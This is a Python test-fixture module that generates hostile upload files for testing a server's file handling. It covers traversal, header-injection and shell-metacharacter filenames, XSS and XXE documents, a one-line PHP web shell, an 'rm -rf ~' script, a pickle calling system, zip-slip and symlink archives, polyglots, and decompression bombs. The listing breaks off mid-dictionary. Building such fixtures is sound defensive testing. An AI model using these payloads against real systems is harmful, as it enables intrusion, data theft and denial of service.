"""Files made to hurt whoever keeps, shows or opens them: hostile names, types and contents.

All are generated here, so that no scanner finds them in the repository; each is small. Where a name
or a type is hostile the content is harmless, and the other way round, so that a case has one cause.
"""

import base64
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from typing import NamedTuple

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(3)"/></foreignObject>'
    b"</svg>"
)
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n'
INJECTED = "X-Injected"


class HostileFile(NamedTuple):
    """A file of a form. ``disposition`` is its header in place of the usual one with the name.

    In names, types and dispositions a lone surrogate U+DC80 to U+DCFF stands for the byte 80 to FF
    (``surrogateescape``).
    """

    case: str
    name: str
    declared_type: str
    content: bytes
    disposition: str = ""

    @property
    def kind(self) -> str:
        """What is hostile about it."""
        return self.case.partition(":")[0]

    def part(self) -> bytes:
        """Return its headers and its content, as a client writes them that cleans nothing."""
        disposition = self.disposition or f'form-data; name="file"; filename="{self.name}"'
        head = f"Content-Disposition: {disposition}\r\nContent-Type: {self.declared_type}\r\n\r\n"
        return head.encode("utf-8", "surrogateescape") + self.content


# Pictures, by their parts.


def encoded(image: Image.Image, file_format: str, **options: object) -> bytes:
    file = io.BytesIO()
    image.save(file, file_format, **options)
    return file.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    width: int,
    height: int,
    *,
    depth: int = 8,
    colour: int = 2,
    chunks: bytes = b"",
    data: bytes = b"",
    end: bytes = b"",
) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(data, 9)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + chunks + body + end


def segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def jpeg(*segments: bytes, end: bytes = b"") -> bytes:
    """Return a whole JPEG with segments before its own."""
    return b"\xff\xd8" + b"".join(segments) + WHOLE_JPEG[2:] + end


def frame(width: int, height: int) -> bytes:
    """Return the header of a JPEG frame of three colours."""
    components = bytes([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
    return segment(0xC0, struct.pack(">BHHB", 8, height, width, 3) + components)


def gif(width: int, height: int, *blocks: bytes, end: bytes = b"\x3b") -> bytes:
    """Return a GIF with a screen of this size, in the colours of ``WHOLE_GIF``."""
    head = b"GIF89a" + struct.pack("<HH", width, height) + GIF_HEAD[10:]
    return head + b"".join(blocks) + end


def gif_frame(width: int, height: int, left: int = 0) -> bytes:
    """Return the frame of ``WHOLE_GIF`` as one of another size, which its data do not fill."""
    return b"\x2c" + struct.pack("<HHHH", left, 0, width, height) + GIF_FRAME[9:]


def riff(*chunks: tuple[bytes, bytes], kind: bytes = b"WEBP") -> bytes:
    body = kind
    for name, data in chunks:
        body += name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def vp8x(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"VP8X", struct.pack("<I", flags) + sides


SMALL = Image.new("RGB", (8, 6), (200, 30, 30))
WHOLE_PNG = encoded(SMALL, "PNG")
WHOLE_JPEG = encoded(SMALL, "JPEG")
WHOLE_GIF = encoded(SMALL.convert("P"), "GIF")
WHOLE_WEBP = encoded(SMALL, "WEBP")
GIF_AT = WHOLE_GIF.index(b"\x2c\0\0\0\0\x08\0\x06\0")
GIF_HEAD, GIF_FRAME = WHOLE_GIF[:GIF_AT], WHOLE_GIF[GIF_AT:-1]
SCAN = WHOLE_JPEG[WHOLE_JPEG.index(b"\xff\xda") : -2]


# Archives and documents.


def zipped(entries: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            # A fixed date: the same file in every run.
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def tarred(name: str, kind: bytes, target: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, target
        archive.addfile(entry)
    return file.getvalue()


def pdf(body: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj" + body + b"endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


PDF = pdf(b"<</S/JavaScript/JS(app.alert(1))>>")
JAR = zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n"})
PHAR = (
    b"<?php __HALT_COMPILER(); ?>\r\n"
    + struct.pack("<IIHII", 38, 0, 0x1100, 0, 0)
    + struct.pack("<I", 16)
    + b'O:4:"Evil":0:{}\n'
    + bytes(8)
)


def expanding(levels: int) -> bytes:
    """Return XML whose entities are ten times the one before."""
    entities = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10 if level else "lol"}">\n'
        for level in range(levels)
    )
    return f'<?xml version="1.0"?><!DOCTYPE x [\n{entities}]><x>&e{levels - 1};</x>'.encode()


def rolled_up(content: bytes, levels: int) -> bytes:
    """Return a ZIP in a ZIP in a ZIP, each with ten of the one before."""
    for _ in range(levels):
        content = zipped({f"{number}.zip": content for number in range(10)})
    return content


NAMES = {
    "traversal": "../../../../etc/passwd",
    "traversal with backslashes": "..\\..\\..\\windows\\win.ini",
    "traversal of both kinds": "..\\../..\\../a.txt",
    "traversal that is left when ../ is removed once": "....//....//etc/passwd",
    "absolute": "/etc/passwd",
    "drive": "C:\\boot.ini",
    "UNC": "\\\\evil.example\\share\\a.txt",
    "URL": "https://evil.example/a.js",
    "file URL": "file:///etc/passwd",
    "percent-encoded traversal": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "twice percent-encoded": "%252e%252e%252fpasswd",
    "slash as an entity": "..&#47;..&#x2f;etc&#92;passwd",
    "overlong UTF-8 of a slash": "..\udcc0\udcaf..\udcc0\udcafpasswd",
    "full-width slashes": "..\uff0f..\uff0fpasswd\u2215x\u29f5y",
    "one dot": ".",
    "two dots": "..",
    "only dots": "." * 300,
    "hidden": ".htaccess",
    "empty": "",
    "spaces": "   ",
    "space and dot at its end": "a.html. . .",
    "slash at its end": "a.txt/",
    "NUL": "a.html\0.png",
    "NUL as an entity": "a&#0;b.txt",
    "CR and LF": f"a.txt\r\n{INJECTED}: 1",
    "LF": f"a.txt\n{INJECTED}: 1",
    "CR": f"a.txt\r{INJECTED}: 1",
    "encoded CR and LF": f"a.txt%0D%0A{INJECTED}: 1",
    "CR and LF as entities": f"a.txt&#13;&#10;{INJECTED}: 1",
    "folded line": "a.txt\r\n folded",
    "NEL and line separators": f"a\u0085{INJECTED}: 1\u2028{INJECTED}: 1\u2029.txt",
    "vertical tab and others": "a\v\f\x1b[2J\x7f\x08.txt",
    "C1 controls": "a\u0080\u009b2J.txt",
    "bidi override": "invoice\u202egpj.exe",
    "bidi isolates": "a\u2066\u2067\u2068\u2069\u200e\u200f\u061c.txt",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeff.txt",
    "tags": "a" + "".join(chr(0xE0000 + ord(c)) for c in "hidden") + ".txt",
    "soft hyphen inside a letter": "e\u00ad\u0301.txt",
    "only invisible": "\u200b\u202e\u2066",
    "combining": "Z" + "\u0301\u0489\u0353" * 30 + ".txt",
    "decomposed": "e\u0301\u0323.txt",
    "grows when composed": "\u0958\ufb2c\U0001d15e" * 9 + ".txt",
    "grows when case-folded": "\ufb03\u0130\u1e9e.txt",
    "Hangul in pieces": "\u1112\u1161\u11ab.txt",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467.png",
    "flags": "\U0001f1fa\U0001f1f3.png",
    "60 emoji": "\U0001f4a3" * 60 + ".png",
    "private use and no characters": "\ue000\ufdd0\uffff\U0010ffff.txt",
    "255 bytes": "x" * 251 + ".txt",
    "256 bytes": "x" * 252 + ".txt",
    "85 letters of 3 bytes": "\u20ac" * 85,
    "200 letters of 4 bytes": "\U00020000" * 200 + ".txt",
    "long ending": "a." + "x" * 600,
    "long ending of wide letters": "a." + "\U00020000" * 150,
    "5,000 characters": "x" * 5000,
    "100,000 characters": "x" * 100_000,
    "reserved by Windows": "CON",
    "reserved by Windows, with an ending": "aux.txt",
    "stream of NTFS": "a.txt::$DATA",
    "not allowed by Windows": 'a<b>c|d?e*f"g.txt',
    "8.3": "PROGRA~1.TXT",
    "quote": 'a"b.txt',
    "quote and another parameter": "a\"; filename*=utf-8''evil.html; x=\"b.txt",
    "quote and another field": 'a"; name="other',
    "escaped quote": 'a\\"b.txt',
    "backslash at its end": "a.txt\\",
    "semicolons": "a;b;filename=evil.html;c.txt",
    "commas and equals signs": "a,b=c.txt",
    "apostrophes": "utf-8''a.txt",
    "percent signs": "100%.txt%",
    "percent sequence of no UTF-8": "a%ff%fe.txt",
    "plus": "a+b c.txt",
    "hash and query": "a.png#<svg>?inline=1&x=%00",
    "encoded word": "=?utf-8?B?PHNjcmlwdD4=?=",
    "markup": "<img src=x onerror=alert(1)>.png",
    "entities": "&lt;script&gt;.txt",
    "Markdown": "](javascript:alert(1))![x](y.png",
    "formula": "=HYPERLINK(1).csv",
    "shell": "$(touch x);`id`|rm -rf ~.txt",
    "option": "--checkpoint-action=exec=sh",
    "template": "{{7*7}}${7*7}<%= 7*7 %>%s%n.txt",
    "SQL": "a'); DROP TABLE notes_note;--.txt",
    "double ending": "photo.png.html",
    "bytes of Latin-1": "caf\udce9.txt",
    "bytes of no UTF-8": "\udcff\udcfe\udc80.txt",
    "half a letter of UTF-8": "a\udce2\udc82.txt",
    "surrogates in UTF-8": "\udced\udca0\udc80\udced\udcb0\udc80.txt",
    "surrogate as an entity": "a&#xD800;&#xDFFF;.txt",
    "beyond Unicode": "\udcf4\udc90\udc80\udc80.txt",
    "entity beyond Unicode": "a&#1114112;&#99999999999;.txt",
    "Shift-JIS with a backslash": "\udc95\\.txt",
}

DISPOSITIONS = {
    "RFC 5987": "form-data; name=\"file\"; filename*=utf-8''na%C3%AFve%20%E2%82%AC.txt",
    "RFC 5987 with a path": "form-data; name=\"file\"; filename*=utf-8''..%2F..%2Fetc%2Fpasswd",
    "RFC 5987 with lines": (
        f"form-data; name=\"file\"; filename*=utf-8''a%0D%0A{INJECTED}:%201%00.txt"
    ),
    "RFC 5987 with a bidi override": "form-data; name=\"file\"; filename*=utf-8''a%E2%80%AEgpj.exe",
    "RFC 5987 with bad UTF-8": "form-data; name=\"file\"; filename*=utf-8''%ff%fe%ed%a0%80.txt",
    "RFC 5987 in UTF-7": "form-data; name=\"file\"; filename*=utf-7''%2BADw-script%2BAD4-.txt",
    "RFC 5987 in UTF-16": "form-data; name=\"file\"; filename*=utf-16''%00%D8a.txt",
    "RFC 5987 in an unknown charset": "form-data; name=\"file\"; filename*=bogus''%41.txt",
    "RFC 5987 in a codec of no text": "form-data; name=\"file\"; filename*=zlib''%41.txt",
    "RFC 5987 in a codec that runs long": "form-data; name=\"file\"; filename*=idna''%ff.txt",
    "RFC 5987 in a charset with NUL": "form-data; name=\"file\"; filename*=utf\0''%41.txt",
    "RFC 5987 without its quotes": 'form-data; name="file"; filename*=utf-8%41.txt',
    "RFC 5987 and plain, which differ": (
        'form-data; name="file"; filename="a.png"; filename*=utf-8\'\'b.html'
    ),
    "RFC 2231 in pieces": 'form-data; name="file"; filename*0="a"; filename*1=".html"',
    "two names": 'form-data; name="file"; filename="a.png"; filename="../b.html"',
    "name of the field in an unknown charset": "form-data; name*=bogus''%41; filename=\"a.txt\"",
    "unquoted": "form-data; name=file; filename=a b;c.txt",
    "no end of its quotes": 'form-data; name="file"; filename="a.txt',
    "attachment": 'attachment; name="file"; filename="a.txt"',
    "1,000 parameters": 'form-data; name="file"; filename="a.txt"' + "; x=1" * 1000,
    "800 semicolons": 'form-data; name="file"; filename="a.txt"' + ";" * 800,
}  # fmt: skip

TYPES = {
    "HTML": "text/html",
    "HTML in UTF-7": "text/html; charset=utf-7",
    "XHTML": "application/xhtml+xml",
    "SVG": "image/svg+xml",
    "XML": "text/xml",
    "XSLT": "application/xslt+xml",
    "JavaScript": "application/javascript",
    "old JavaScript": "text/javascript1.5",
    "CSS": "text/css",
    "PDF": "application/pdf",
    "Flash": "application/x-shockwave-flash",
    "mail": "message/rfc822",
    "part of a mail": "message/partial; id=1; number=1; total=2",
    "web archive": "multipart/related; boundary=inner",
    "pushed pages": "multipart/x-mixed-replace; boundary=inner",
    "multipart of nothing": "multipart/x",
    "HTA": "application/hta",
    "wildcard": "*/*",
    "image of any kind": "image/*",
    "empty": "",
    "no slash": "html",
    "two": "image/png, text/html",
    "CR and LF": f"image/png\r\n{INJECTED}: 1",
    "no ASCII": "text/h\u00e9\u202e\U0001f4a3",
    "bytes of no UTF-8": "text/\udcff\udcfe",
    "controls": "text/html\x0b\x1b",
    "unknown charset": "text/plain; charset=bogus",
    "extended parameter in an unknown charset": "text/plain; charset*=bogus''%41",
    "path": "../../etc/passwd",
    "800 characters": "text/" + "x" * 800,
    "format string": "%s%n{0.__class__}",
}

ACTIVE = {
    "page.html": PAGE,
    "fragment.html": SCRIPT,
    "capitals.HTM": PAGE.upper(),
    "late.html": b" " * 600 + PAGE,
    "later.html": b"x" * 5000 + PAGE,
    "behind-a-comment.html": b"<!--" + b"-" * 600 + b"-->" + PAGE,
    "no-tag-at-first.html": b"hello <b onmouseover=alert(1)>" + SCRIPT,
    "bom.html": b"\xef\xbb\xbf" + PAGE,
    "utf-16-le.html": b"\xff\xfe" + PAGE.decode().encode("utf-16-le"),
    "utf-16-be.html": b"\xfe\xff" + PAGE.decode().encode("utf-16-be"),
    "utf-16-without-bom.html": PAGE.decode().encode("utf-16-le"),
    "utf-16-without-nul.html": b"\xfe\xff" + ("\u3c73\u6372" * 50).encode("utf-16-be"),
    "utf-32.html": PAGE.decode().encode("utf-32"),
    "utf-7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf-7-bom.html": b"+/v8-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "iso-2022-jp.html": b"\x1b$B" + PAGE + b"\x1b(B",
    "ebcdic.html": PAGE.decode().encode("cp037"),
    "nul.html": b"<scr\0ipt>alert(1)</scr\0ipt>",
    "nul-first.html": b"\0" + PAGE,
    "nul-after-the-sample.html": PAGE + b" " * 5000 + b"\0\xff",
    "no-utf-8-after-the-sample.html": PAGE + b" " * 5000 + b"\xff\xfe",
    "letter-across-the-sample.html": PAGE + b" " * (4095 - len(PAGE)) + "\u20ac".encode() * 9,
    "latin-1.html": PAGE + b"\xe9",
    "meta-refresh.html": b'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base.html": b'<base href="https://evil.example/"><script src=x.js></script>',
    "page.xhtml": XML + b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "drawing.svg": SVG,
    "doctype.svg": XML + b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">' + SVG,
    "comment.svg": b"<!-- " + b"x" * 2000 + b" -->" + SVG,
    "use.svg": SVG.replace(b"<foreignObject>", b'<use href="data:image/svg+xml,x#y"/><g>'),
    "drawing.svgz": gzip.compress(SVG, mtime=0),
    "styled.xml": XML + b'<?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?><x/>',
    "sheet.xsl": XML
    + b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    + b'<xsl:template match="/">' + SCRIPT + b"</xsl:template></xsl:stylesheet>",
    "xhtml-inside.xml": XML
    + b'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></x>',
    "entities.xml": expanding(10),
    "quadratic.xml": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 9999 + b'">]>'
    + b"<x>" + b"&a;" * 9999 + b"</x>",
    "external.xml": XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "feed.rss": XML + b'<rss version="2.0"><channel><link>javascript:x</link></channel></rss>',
    "form.xul": XML
    + b'<window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul"/>',
    "formula.mml": b'<math href="javascript:alert(1)"><mi>x</mi></math>',
    "nested.xml": b"<a>" * 20_000,
    "crossdomain.xml": XML
    + b'<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
    "saved.mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: text/html\r\n\r\n" + PAGE + b"\r\n--b--\r\n",
    "mail.eml": b"From: a@example.org\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    "saved.webarchive": b"bplist00\xd1\x01\x02_\x10\x0fWebMainResource" + PAGE,
    "saved-as-xml.webarchive": XML + b"<plist><dict><key>WebMainResource</key></dict></plist>",
    "script.pdf": PDF,
    "launch.pdf": pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "address.pdf": pdf(b"<</S/URI/URI(javascript:alert(1))>>"),
    "broken.pdf": b"%PDF-",
    "late.pdf": b"\n" * 900 + PDF,
    "movie.swf": b"FWS\x09" + struct.pack("<I", 30) + bytes(22),
    "packed.swf": b"CWS\x09" + struct.pack("<I", 30) + zlib.compress(bytes(22)),
    "application.hta": b"<hta:application id=x><script language=VBScript>Run</script>",
    "link.url": b"[InternetShortcut]\r\nURL=javascript:alert(1)\r\n",
    "link.lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60),
    "link.webloc": XML + b"<plist><dict><key>URL</key><string>file:///</string></dict></plist>",
    "link.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "icon.scf": b"[Shell]\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n",
    "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\x,0\r\n",
    "component.sct": XML + b"<scriptlet><script>x</script></scriptlet>",
    "worker.js": b"self.addEventListener('fetch', e => e.respondWith(new Response('x')))",
    "module.mjs": b"export default alert(1)",
    "shebang.js": b"#!/usr/bin/env node\nrequire('child_process')",
    "data.json": b'{"a": "</script><script>alert(1)</script>", "__proto__": {}}',
    "style.css": b"@import url(//evil.example/x.css); a{background:url(javascript:alert(1))}",
    "offline.appcache": b"CACHE MANIFEST\nFALLBACK:\n/ /files/evil\n",
    "site.webmanifest": b'{"start_url": "javascript:alert(1)"}',
    "code.wasm": b"\0asm\x01\0\0\0",
    ".htaccess": b"AddType application/x-httpd-php .png\n",
    "web.config": XML + b"<configuration><system.webServer/></configuration>",
    "shell.php": b"<?php system($_GET[0]); ?>",
    "shell.jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime(); %>',
    "run.sh": b"#!/bin/sh\nrm -rf ~\n",
    "run.bat": b"@echo off\r\nstart calc\r\n",
    "program.exe": b"MZ\x90\0" + bytes(60),
    "program": b"\x7fELF\x02\x01\x01" + bytes(57),
    "page.ps": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n",
    "page.mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/|id'\n",
    "letters.xbm": b"#define x_width 60000\n#define x_height 60000\nstatic char x_bits[] = {\n",
    "letter.rtf": b"{\\rtf1{\\object\\objdata 0105000002000000}}",
    "table.csv": b"=cmd|' /C calc'!A0,@SUM(1),+1,-1\r\n",
    "calendar.ics": b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd\r\n",
    "pickle.pkl": b"cos\nsystem\n(S'id'\ntR.",
    "database.sqlite3": b"SQLite format 3\0" + bytes(84),
    "font.woff": b"wOFF\0\x01\0\0" + bytes(36),
}  # fmt: skip

POLYGLOTS = {
    "script.gif": b"GIF89a/*" + b"x" * 20 + b"*/=1;alert(1)",
    "page.gif": b"GIF89a<html>" + PAGE,
    "whole-and-page.gif": WHOLE_GIF + PAGE,
    "page-in-comment.gif": gif(
        8, 6, b"\x21\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0", gif_frame(8, 6)
    ),
    "phar.gif": WHOLE_GIF + PHAR,
    "page-in-comment.jpg": jpeg(segment(0xFE, PAGE)),
    "page-in-exif.jpg": jpeg(segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\0\0" + PAGE)),
    "script.jpg": b"\xff\xd8\xff\xe0/*" + bytes(0x2F2A - 2) + b"*/=1;alert(1)//" + WHOLE_JPEG[2:],
    "page-after-end.jpg": jpeg(end=PAGE),
    "zip-after-end.jpg": jpeg(end=JAR),
    "page-in-text.png": png(8, 6, chunks=chunk(b"tEXt", b"Comment\0" + PAGE), data=bytes(150)),
    "page-in-packed-text.png": png(
        8, 6, chunks=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(PAGE)), data=bytes(150)
    ),
    "page-after-end.png": WHOLE_PNG + PAGE,
    "page-in-first-chunk.png": b"\x89PNG\r\n\x1a\n" + chunk(b"aaAa", PAGE) + WHOLE_PNG[8:],
    "page-at-once.png": b"\x89PNG\r\n\x1a\n" + PAGE,
    "page.webp": b"RIFF\x20\0\0\0WEBP" + PAGE,
    "script.webp": b"RIFF/*\0\0WEBP*/=1;alert(1)",
    "page-in-chunk.webp": riff(vp8x(8, 6, 8), (b"EXIF", PAGE)),
    "svg-in-xmp.webp": riff(vp8x(8, 6, 4), (b"XMP ", SVG)),
    "script.bmp": b"BM=1;/*" + bytes(40) + b"*/alert(1)",
    "text.bmp": b"BM=1;alert(1)//" + PAGE,
    "picture.ico": b"\0\0\1\0\1\0\x08\x06\0\0\1\0\x20\0" + struct.pack("<II", 99, 22) + WHOLE_PNG,
    "film.mp4": b"\0\0\0\x18ftypmp42\0\0\0\0isommp42" + PAGE,
    "still.avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(20),
    "still.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(20),
    "still.tiff": b"II*\0\x08\0\0\0\xff\xff" + PAGE,
    "still.jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(20),
    "still.psd": b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, 30000, 30000, 8, 3),
    "tune.mp3": b"ID3\x03\0\0\0\0\0\x20" + PAGE,
    "tune.ogg": b"OggS\0\x02" + bytes(20) + PAGE,
    "tune.wav": riff((b"fmt ", bytes(16)), (b"data", PAGE), kind=b"WAVE"),
    "page.pdf": PDF + PAGE,
    "page-before.pdf": PAGE + b"\n" + PDF,
    "zip.pdf": PDF + JAR,
    "application.jar": JAR,
    "page-before.zip": PAGE + JAR,
    "application.phar": PHAR,
    "macros.docm": zipped({"[Content_Types].xml": XML, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "book.epub": zipped({"mimetype": b"application/epub+zip", "x.xhtml": PAGE}),
    "out.zip": zipped({"../../../../etc/cron.d/x": b"* * * * * root id\n", "/abs": b"x"}),
    "many.zip": rolled_up(zipped({"0": bytes(2**20)}), 3),
    "out.tar": tarred("../../x", tarfile.REGTYPE, ""),
    "link.tar": tarred("x", tarfile.SYMTYPE, "/etc/passwd"),
    "zeros.gz": gzip.compress(bytes(2**24), mtime=0),
    "page.gz": gzip.compress(PAGE, mtime=0),
    "page.br": b"\x0b\x02\x80" + PAGE + b"\x03",
    "page.b64": base64.b64encode(PAGE),
}  # fmt: skip

EXIF = b"Exif\0\0MM\0*\0\0\0\x08"
BOMBS = {
    "60000x60000.png": png(60_000, 60_000, data=bytes(1000)),
    "largest.png": png(2**31 - 1, 2**31 - 1),
    "7000x7000-of-one-colour.png": png(7000, 7000, depth=1, colour=0, data=bytes(876 * 7000)),
    "8000x8000-of-one-colour.png": png(8000, 8000, depth=1, colour=0, data=bytes(1001 * 8000)),
    "more-than-its-size.png": png(8, 6, data=bytes(2**24)),
    "thin.png": png(10_000_000, 4, depth=1, colour=0, data=bytes(1_250_001 * 4)),
    "tall.png": png(1, 40_000_000, depth=1, colour=0, data=bytes(1000)),
    "many-idat.png": png(100, 100, chunks=chunk(b"IDAT", b"") * 50_000, data=bytes(301 * 100)),
    "many-iccp.png": png(
        8, 6, data=bytes(150),
        chunks=chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**20), 9)) * 200,
    ),
    "large-iccp.png": png(
        8, 6, data=bytes(150), chunks=chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**24), 9)),
    ),
    "large-ztxt.png": png(
        8, 6, data=bytes(150), chunks=chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(2**24), 9)),
    ),
    "many-ztxt.png": png(
        8, 6, data=bytes(150),
        chunks=chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(2**20), 9)) * 100,
    ),
    "frames.png": png(
        8, 6, data=bytes(150),
        chunks=chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
        + chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 60_000, 60_000, 0, 0, 1, 1, 0, 0)),
    ),
    "65500x65500.jpg": b"\xff\xd8" + frame(65_500, 65_500) + WHOLE_JPEG[2:],
    "60000x800.jpg": b"\xff\xd8" + frame(60_000, 800) + SCAN + b"\xff\xd9",
    "many-scans.jpg": jpeg()[:-2] + SCAN * 2000 + b"\xff\xd9",
    "many-exif.jpg": jpeg(segment(0xE1, EXIF + bytes(1000)) * 500),
    "many-segments.jpg": jpeg(segment(0xE2, b"") * 60_000),
    "many-profiles.jpg": jpeg(segment(0xE2, b"ICC_PROFILE\0\x01\xff" + bytes(60_000)) * 50),
    "fill-bytes.jpg": b"\xff\xd8" + b"\xff" * 300_000 + WHOLE_JPEG[2:],
    "65535x65535.gif": gif(65_535, 65_535, gif_frame(8, 6)),
    "frame-larger-than-screen.gif": gif(8, 6, gif_frame(65_535, 65_535)),
    "frame-far-out.gif": gif(8, 6, gif_frame(65_535, 65_535, 65_535)),
    "many-frames.gif": gif(8, 6, GIF_FRAME * 20_000),
    "many-comments.gif": gif(8, 6, b"\x21\xfe\x01x\0" * 60_000, gif_frame(8, 6)),
    "16777216x1.webp": riff(vp8x(2**24, 1), (b"VP8 ", bytes(10))),
    "16384x16384.webp": riff(vp8x(16_384, 16_384), (b"VP8L", b"\x2f\xff\xff\xff\x0f" + bytes(20))),
    "animated-huge.webp": riff(
        vp8x(16_384, 16_384, 2), (b"ANIM", bytes(6)), *[(b"ANMF", bytes(16))] * 5000
    ),
}  # fmt: skip

BROKEN = {
    **{
        f"cut-at-{cut}.{ending}": whole[:cut]
        for ending, whole in (
            ("png", WHOLE_PNG),
            ("jpg", WHOLE_JPEG),
            ("gif", WHOLE_GIF),
            ("webp", WHOLE_WEBP),
        )
        for cut in (12, 20, 30, len(whole) // 2, len(whole) - 3)
    },
    "signature.png": b"\x89PNG\r\n\x1a\n",
    "signature.jpg": b"\xff\xd8\xff",
    "signature.gif": b"GIF89a",
    "signature.webp": b"RIFF\0\0\0\0WEBP",
    "0x0.png": png(0, 0, data=b"\0"),
    "0x5.gif": gif(0, 5, gif_frame(0, 5)),
    "0x0.jpg": b"\xff\xd8" + frame(0, 0) + WHOLE_JPEG[2:],
    "0-lines.jpg": b"\xff\xd8" + frame(8, 0) + SCAN + b"\xff\xd9",
    "0x0.webp": riff((b"VP8 ", b"\0\0\0\x9d\x01\x2a\0\0\0\0")),
    "negative.png": png(2**32 - 1, 2**32 - 8, data=b"\0"),
    "bad-crc.png": WHOLE_PNG[:29] + b"\0\0\0\0" + WHOLE_PNG[33:],
    "bad-chunk-length.png": WHOLE_PNG[:33] + b"\xff\xff\xff\xff" + WHOLE_PNG[37:],
    "bad-zlib.png": WHOLE_PNG.replace(WHOLE_PNG[41:50], b"\xff" * 9),
    "bad-depth.png": png(8, 6, depth=7, colour=9, data=bytes(150)),
    "no-data.png": b"\x89PNG\r\n\x1a\n" + WHOLE_PNG[8:33] + chunk(b"IEND", b""),
    "two-headers.png": png(8, 6, chunks=WHOLE_PNG[8:33], data=bytes(150)),
    "no-palette.png": png(8, 6, colour=3, data=bytes(150)),
    "segment-of-length-0.jpg": b"\xff\xd8\xff\xe1\0\0" * 50_000,
    "segment-beyond-its-end.jpg": b"\xff\xd8\xff\xe1\xff\xff",
    "exif-loop.jpg": jpeg(segment(0xE1, EXIF + b"\0\0\0\0\0\x08")),
    "exif-far-away.jpg": jpeg(segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff")),
    "exif-many-entries.jpg": jpeg(segment(0xE1, EXIF + b"\xff\xff" + bytes(60_000))),
    "exif-orientation-99.jpg": jpeg(
        segment(0xE1, EXIF + b"\0\1" + struct.pack(">HHIHH", 0x112, 3, 1, 99, 0) + bytes(4))
    ),
    "exif-in-tiff.png": png(8, 6, chunks=chunk(b"eXIf", b"MM\0*\xff\xff\xff\xff"), data=bytes(150)),
    "bad-code-size.gif": gif(8, 6, b"\x2c" + struct.pack("<HHHHB", 0, 0, 8, 6, 0) + b"\xff\x01x\0"),
    "no-end.gif": gif(8, 6, gif_frame(8, 6), end=b""),
    "only-end.gif": gif(8, 6),
